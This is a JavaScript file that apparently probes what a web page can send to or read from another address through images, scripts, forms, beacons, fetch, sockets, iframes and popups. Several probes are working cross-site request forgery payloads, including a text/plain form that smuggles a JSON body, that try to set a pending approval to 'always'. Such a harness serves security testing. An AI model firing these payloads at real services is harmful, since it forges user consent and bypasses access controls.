// What a page can do to an address without its leave. Each takes an address and resolves to what it could read there.
({
  img: (url) =>
    new Promise((done) => {
      const image = new Image();
      image.onload = () => done(`${image.naturalWidth}x${image.naturalHeight}`);
      image.onerror = () => done("");
      image.src = url;
    }),

  script: (url) =>
    new Promise((done) => {
      window.leaked = "";
      const script = document.createElement("script");
      script.onload = script.onerror = () => done(window.leaked);
      script.src = url;
      document.body.append(script);
    }),

  link: (url) =>
    new Promise((done) => {
      document.body.insertAdjacentHTML("beforeend", "<p id=probe style=''>probe</p>");
      const usual = getComputedStyle(document.getElementById("probe")).fontFamily;
      const link = Object.assign(document.createElement("link"), { rel: "stylesheet", href: url });
      link.onload = link.onerror = () => {
        const now = getComputedStyle(document.getElementById("probe")).fontFamily;
        done(now === usual ? "" : now);
      };
      document.head.append(link);
    }),

  "form GET": (url) => {
    const form = Object.assign(document.createElement("form"), { method: "get", target: "_blank", rel: "opener" });
    const [action, query] = url.split("?");
    form.action = action;
    for (const [name, value] of new URLSearchParams(query)) {
      form.append(Object.assign(document.createElement("input"), { name, value }));
    }
    document.body.append(form);
    form.submit();
    return "";
  },

  "form POST": (url) => {
    const form = Object.assign(document.createElement("form"), { method: "post", target: "_blank", rel: "opener" });
    form.action = url;
    form.enctype = "text/plain"; // a body that is JSON, sent without asking: {"decision":"always","a":"=b"}
    const name = `{"id":"${window.pending}","decision":"always","device":"virtual:adf","a":"`;
    form.append(Object.assign(document.createElement("input"), { name, value: '"}' }));
    document.body.append(form);
    form.submit();
    return "";
  },

  "no-cors fetch": async (url) => {
    const body = JSON.stringify({ id: window.pending, decision: "always", device: "virtual:adf" });
    const read = [];
    for (const way of [{}, { method: "POST", body }]) {
      try {
        const answer = await fetch(url, { mode: "no-cors", credentials: "include", ...way });
        read.push(await answer.text()); // always empty: the browser keeps such an answer to itself
      } catch {} // or it does not even take it
    }
    return read.join("");
  },

  beacon: (url) => {
    const body = JSON.stringify({ id: window.pending, decision: "always", device: "virtual:adf" });
    navigator.sendBeacon(url, new Blob([body], { type: "text/plain" }));
    return "";
  },

  iframe: (url) =>
    new Promise((done) => {
      const frame = document.createElement("iframe");
      frame.onload = () => {
        try {
          done(frame.contentDocument?.body.textContent ?? "");
        } catch {
          done("");
        }
      };
      frame.src = url;
      document.body.append(frame);
    }),

  WebSocket: (url) =>
    new Promise((done) => {
      const socket = new WebSocket(url.replace("http", "ws"));
      socket.onmessage = (event) => done(event.data);
      socket.onclose = () => done("");
    }),

  EventSource: (url) =>
    new Promise((done) => {
      const source = new EventSource(url, { withCredentials: false });
      const end = (text) => (source.close(), done(text));
      source.onmessage = (event) => end(event.data);
      source.onerror = () => end("");
    }),

  popup: async (url) => {
    const popup = window.open(url);
    await new Promise((done) => setTimeout(done, 250));
    try {
      return popup.document.location.href === "about:blank" ? "" : popup.document.body.textContent;
    } catch {
      return "";
    }
  },

  fetch: async (url) => {
    const body = JSON.stringify({ id: window.pending, decision: "always", device: "virtual:adf", logLevel: 30 });
    const json = { "Content-Type": "application/json", "X-DWTSVC": "1" };
    const ways = [{}, { method: "POST", body }, ...["POST", "PATCH", "DELETE"].map((method) => ({ method, body, headers: json }))];
    const read = [];
    for (const way of ways) {
      try {
        const answer = await fetch(url, way);
        read.push(await answer.text());
      } catch {}
    }
    return read.join("");
  },
});
